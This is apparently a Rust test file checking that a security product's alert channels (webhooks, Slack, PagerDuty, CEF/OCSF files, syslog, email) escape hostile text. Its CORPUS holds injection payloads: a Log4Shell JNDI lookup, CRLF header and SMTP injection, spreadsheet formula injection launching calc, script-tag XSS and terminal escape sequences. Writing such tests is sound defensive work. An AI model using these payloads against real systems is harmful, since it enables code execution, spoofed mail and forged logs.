//! No text from a log leaves its place (RELIABILITY S-11): a corpus and random text in every field, through every responder,
//! read back with a parser of the target's format.

use crate::syslog::{collector, frames, parse};
use crate::world::http::{answer, site};
use crate::world::read_back::{acts, decode_body, decode_subject, read_cef, texts, visible};
use crate::world::smtp::{Manners, server};
use crate::world::{Room, kept as kept_by, order, responder};
use habitus_model::{AccountId, EventUid, Order, TenantId};
use proptest::prelude::*;
use serde_json::Value;

pub const CORPUS: &[&str] = &[
    "line\r\nX-Injected: yes",
    "line\nbreak\rand return",
    "\r\n.\r\nMAIL FROM:<evil@example.com>",
    "subject\r\nBcc: everyone@example.com",
    "\u{1b}[2J\u{1b}[31mroot\u{1b}]0;title\u{7}",
    "\u{9b}31m c1",
    "\u{202e}gnp.exe\u{202c} \u{2066}x\u{2069}",
    "nul\0byte",
    "${jndi:ldap://203.0.113.9/a}",
    "${${lower:j}ndi:x}",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1)",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<!channel> <!here> <@U012AB3CD>",
    "<https://evil.example|https://bank.example>",
    "*bold* _it_ ~s~ `code` ```block```",
    "&lt;!channel&gt; & &amp;",
    "a|b\\|c=d\\=e\\\\",
    " cs1=forged act=allow",
    "x\\n suid=admin",
    "CEF:0|a|b|c|d|e|10|",
    "<13>1 2026-01-01T00:00:00Z h a - - - forged",
    "77 <13>1 - - - - - -",
    "{\"forged\":true}\n{\"second\":1}",
    "\"],\"x\":[\"",
    "\u{2028}separator\u{2029}",
    "\u{feff}bom \u{200b}zero \u{e0041}tag",
    "{finding}/../../admin?x=1#y",
    "\u{fffe}\u{ffff}\u{10ffff}",
    "ÀÉ李\u{1f9d1}\u{200d}\u{1f4bb} é",
    " lead and trail ",
    "",
];

/// The order with the text in every place that a log can reach.
fn hostile(text: &str) -> Order {
    let mut order = order();
    order.notice.finding = Some(text.into());
    order.notice.event = EventUid::new(text);
    order.notice.tenant = TenantId::new(text);
    order.notice.account = Some(AccountId::new(text));
    order.notice.title = text.to_owned();
    order.notice.reasons = vec![text.to_owned(), format!("{text}{text}")];
    order.notice.rule = text.into();
    order.notice.policy = text.into();
    order
}

/// The bytes of a JSON body hold nothing that acts on whoever looks at them.
fn inert(body: &[u8]) {
    let text = std::str::from_utf8(body).unwrap();
    assert!(!text.chars().any(acts), "{text:?}");
    assert!(
        !text.contains(['<', '>', '&']) && !text.contains("${"),
        "{text:?}"
    );
}

#[tokio::test]
async fn webhooks_carry_the_text_itself() {
    let site = site(|_, _| answer(200, &[], "")).await;
    let room = Room::new();
    let registry = responder("webhook", &room.http_responders(&site.url()).remove(0).1);
    for (number, text) in CORPUS.iter().enumerate() {
        assert!(registry.carry_out(&hostile(text)).await.is_done());
        let seen = site.seen().remove(number);
        inert(&seen.body);
        let data = seen.json()["data"].clone();
        for field in [
            "finding_id",
            "event_id",
            "tenant",
            "account",
            "title",
            "rule",
            "policy",
        ] {
            assert_eq!(data[field], *text, "{field}");
        }
        assert_eq!(data["reasons"][1], format!("{text}{text}"));
        assert_eq!(seen.headers.len(), 8, "{:?}", seen.headers);
    }
}

#[tokio::test]
async fn chats_mention_nobody_and_link_nowhere() {
    let site = site(|_, _| answer(200, &[], "ok")).await;
    let room = Room::new();
    let fields = format!(
        "{}\nlink = \"https://habitus.example.com/f/{{finding}}\"",
        room.http_responders(&site.url())[1].1
    );
    let registry = responder("slack", &fields);
    for (number, text) in CORPUS.iter().enumerate() {
        assert!(registry.carry_out(&hostile(text)).await.is_done());
        let seen = site.seen().remove(number);
        inert(&seen.body);
        let body = seen.json();
        for text in texts(&body) {
            assert!(!text.contains(['<', '>']), "{text}");
            assert!(text.chars().all(|c| c == '\n' || !acts(c)), "{text:?}");
        }
        let unescaped = |text: &Value| {
            let text = text.as_str().unwrap();
            text.replace("&lt;", "<")
                .replace("&gt;", ">")
                .replace("&amp;", "&")
        };
        // Slack refuses empty text.
        let shown = if text.is_empty() {
            "-".to_owned()
        } else {
            visible(text)
        };
        assert_eq!(body["blocks"][0]["text"]["type"], "plain_text");
        assert_eq!(unescaped(&body["blocks"][0]["text"]["text"]), shown);
        assert_eq!(unescaped(&body["blocks"][1]["fields"][1]["text"]), shown);
        assert_eq!(
            unescaped(&body["blocks"][2]["text"]["text"]),
            format!("• {0}\n• {0}{0}", visible(text))
        );
        let url = reqwest::Url::parse(body["blocks"][3]["elements"][0]["url"].as_str().unwrap()).unwrap();
        assert_eq!(url.host_str(), Some("habitus.example.com"));
        assert_eq!((url.query(), url.fragment()), (None, None));
        if !text.is_empty() {
            assert_eq!(url.path_segments().unwrap().count(), 2, "{url}");
        }
    }
}

#[tokio::test]
async fn alerts_are_one_line() {
    let site = site(|_, _| answer(202, &[], "{}")).await;
    let room = Room::new();
    let registry = responder("pagerduty", &room.http_responders(&site.url())[2].1);
    let mut keys = std::collections::BTreeSet::new();
    for (number, text) in CORPUS.iter().enumerate() {
        assert!(registry.carry_out(&hostile(text)).await.is_done());
        let seen = site.seen().remove(number);
        inert(&seen.body);
        let body = seen.json();
        let summary = body["payload"]["summary"].as_str().unwrap();
        assert_eq!(summary, format!("CRITICAL 82 {0}: {0}", visible(text)));
        assert_eq!(body["payload"]["custom_details"]["title"], *text);
        let key = body["dedup_key"].as_str().unwrap();
        assert!(
            key.len() <= 255 && key.bytes().all(|b| b.is_ascii_graphic()),
            "{key}"
        );
        keys.insert(key.to_owned());
    }
    assert_eq!(keys.len(), CORPUS.len(), "two findings became one alert");
}

fn check_cef(line: &str, text: &str) {
    assert!(!line.chars().any(acts), "{line:?}");
    let (header, pairs) = read_cef(line);
    let version = env!("CARGO_PKG_VERSION");
    assert_eq!(
        header,
        [
            "0",
            "habitus",
            "habitus",
            version,
            &visible(text),
            &visible(text),
            "10"
        ]
    );
    let keys: Vec<&str> = pairs.iter().map(|(key, _)| key.as_str()).collect();
    let expected =
        "rt externalId suid act reason cn1Label cn1 cs1Label cs1 cs2Label cs2 cs3Label cs3 cs4Label cs4";
    assert_eq!(keys, expected.split(' ').collect::<Vec<_>>());
    for key in ["externalId", "suid", "cs2", "cs3", "cs4"] {
        let (_, value) = pairs.iter().find(|(name, _)| name == key).unwrap();
        assert_eq!(*value, visible(text), "{key}");
    }
    assert_eq!(pairs[4].1, format!("{0}; {0}{0}", visible(text)));
}

fn check_ocsf(line: &str, text: &str) {
    inert(line.as_bytes());
    let finding: Value = serde_json::from_str(line).unwrap();
    assert_eq!(finding["message"], text);
    assert_eq!(finding["finding_info"]["uid"], text);
    assert_eq!(finding["finding_info"]["desc"], format!("{text}\n{text}{text}"));
    assert_eq!(finding["evidences"][0]["user"]["uid"], text);
    assert_eq!(finding["metadata"]["tenant_uid"], text);
}

#[tokio::test]
async fn files_hold_a_line_an_order() {
    let room = Room::new();
    for format in ["ocsf", "cef"] {
        let path = room.path(format);
        let fields = format!("path = \"{}\"\nformat = \"{format}\"", path.display());
        let registry = responder("file", &fields);
        for text in CORPUS {
            assert!(registry.carry_out(&hostile(text)).await.is_done());
        }
        let written = std::fs::read_to_string(path).unwrap();
        let lines: Vec<&str> = written.split_terminator('\n').collect();
        assert_eq!(lines.len(), CORPUS.len());
        for (line, text) in lines.iter().zip(CORPUS) {
            if format == "cef" {
                check_cef(line, text)
            } else {
                check_ocsf(line, text)
            }
        }
    }
}

#[tokio::test]
async fn syslog_holds_a_frame_an_order() {
    for format in ["ocsf", "cef"] {
        let (address, kept) = collector(None).await;
        let fields = format!(
            "host = \"127.0.0.1\"\nport = {}\ntransport = \"tcp\"\nformat = \"{format}\"\nallow_networks = [\"127.0.0.0/8\"]",
            address.port()
        );
        let registry = responder("syslog", &fields);
        for text in CORPUS {
            assert!(registry.carry_out(&hostile(text)).await.is_done());
        }
        let kept = kept_by(&kept, CORPUS.len()).await;
        assert_eq!(kept.len(), CORPUS.len());
        for (bytes, text) in kept.iter().zip(CORPUS) {
            let frames = frames(bytes);
            assert_eq!(frames.len(), 1);
            let message = parse(&frames[0]);
            if format == "cef" {
                check_cef(&message.content, text)
            } else {
                check_ocsf(&message.content, text)
            }
        }
    }
}

#[tokio::test]
async fn mails_have_our_headers_and_no_others() {
    let server = server(Manners::default()).await;
    let fields = format!(
        "host = \"127.0.0.1\"\nport = {}\ntls = \"none\"\nfrom = \"habitus@example.com\"\nto = [\"soc@example.com\"]\n\
         allow_networks = [\"127.0.0.0/8\"]",
        server.address.port()
    );
    let registry = responder("email", &fields);
    for (number, text) in CORPUS.iter().enumerate() {
        let outcome = registry.carry_out(&hostile(text)).await;
        assert!(outcome.is_done(), "{outcome:?}");
        let mail = server.mail(number).await;
        assert_eq!(mail.commands.len(), 5, "{:?}", mail.commands);
        let data = mail.data.unwrap();
        let (head, body) = data.split_once("\r\n\r\n").unwrap();
        let unfolded = head.replace("\r\n ", " ").replace("\r\n\t", " ");
        let names: Vec<&str> = unfolded
            .lines()
            .map(|line| line.split_once(':').unwrap().0)
            .collect();
        let ours = "From Date Message-ID Subject Content-Type To MIME-Version Content-Transfer-Encoding Auto-Submitted";
        let mut sorted = names.clone();
        sorted.sort_unstable();
        let mut expected: Vec<&str> = ours.split(' ').collect();
        expected.sort_unstable();
        assert_eq!(sorted, expected, "{head}");
        assert!(head.is_ascii(), "{head}");
        let value = |name: &str| {
            unfolded
                .lines()
                .find_map(|line| line.strip_prefix(&format!("{name}: ")))
                .unwrap()
        };
        let subject = decode_subject(value("Subject"));
        let plain = |text: &str| text.split_whitespace().collect::<Vec<_>>().join(" ");
        assert_eq!(
            plain(&subject),
            plain(&format!("[habitus] CRITICAL 82 {0}: {0}", visible(text)))
        );
        let body = decode_body(value("Content-Transfer-Encoding"), body);
        assert!(!body.replace("\r\n", "").chars().any(acts), "{body:?}");
        let lines: Vec<&str> = body.trim_end_matches("\r\n").split("\r\n").collect();
        assert_eq!(lines[0], visible(text));
        assert!(
            lines.contains(&format!("- {0}{0}", visible(text)).as_str()),
            "{body}"
        );
        assert_eq!(lines.len(), 13, "{body}");
    }
}

fn random_text() -> impl Strategy<Value = String> {
    let hostile = prop::sample::select(CORPUS.to_vec()).prop_map(str::to_owned);
    let any = prop::collection::vec(any::<char>(), 0..30).prop_map(|chars| chars.into_iter().collect());
    let mixed = "[ =|\\\\\r\n\u{1b}\u{202e}<>&$\\{\\}a-c]{0,40}";
    prop_oneof![hostile, any, mixed]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 200, ..ProptestConfig::default() })]

    #[test]
    fn random_text_stays_in_its_place(text in random_text()) {
        // Visible text may grow beyond a title's limit and is then cut; that is another test's matter.
        prop_assume!(visible(&text).chars().count() < 190);
        let room = Room::new();
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
        for format in ["ocsf", "cef"] {
            let path = room.path(format);
            let registry = responder("file", &format!("path = \"{}\"\nformat = \"{format}\"", path.display()));
            prop_assert!(runtime.block_on(registry.carry_out(&hostile(&text))).is_done());
            let written = std::fs::read_to_string(path).unwrap();
            let line = written.strip_suffix('\n').unwrap();
            if format == "cef" { check_cef(line, &text) } else { check_ocsf(line, &text) }
        }
    }
}

/// Endless text is cut, and what is cut is still whole.
#[tokio::test]
async fn long_text_is_bounded_everywhere() {
    let site = site(|_, _| answer(200, &[], "ok")).await;
    let room = Room::new();
    let mut order = hostile(&"<\u{202e}&x".repeat(10_000));
    order.notice.reasons = vec!["\u{1b}<&>".repeat(10_000); 50];
    for (kind, fields) in room.http_responders(&site.url()) {
        assert!(
            responder(kind, &fields).carry_out(&order).await.is_done(),
            "{kind}"
        );
    }
    let lines = room.path("lines");
    assert!(
        responder("file", &format!("path = \"{}\"", lines.display()))
            .carry_out(&order)
            .await
            .is_done()
    );
    for seen in site.seen() {
        // PagerDuty takes 512 kB, a webhook should stay below 20 kB of plain text.
        assert!(seen.body.len() < 100_000, "{}", seen.body.len());
        inert(&seen.body);
        if seen.target.contains("services") {
            for block in seen.json()["blocks"].as_array().unwrap() {
                for text in texts(block) {
                    assert!(text.chars().count() <= 3_000, "{text}");
                }
            }
            assert!(
                seen.json()["blocks"][0]["text"]["text"]
                    .as_str()
                    .unwrap()
                    .chars()
                    .count()
                    <= 150
            );
        }
    }
    assert!(std::fs::metadata(lines).unwrap().len() < 100_000);
}
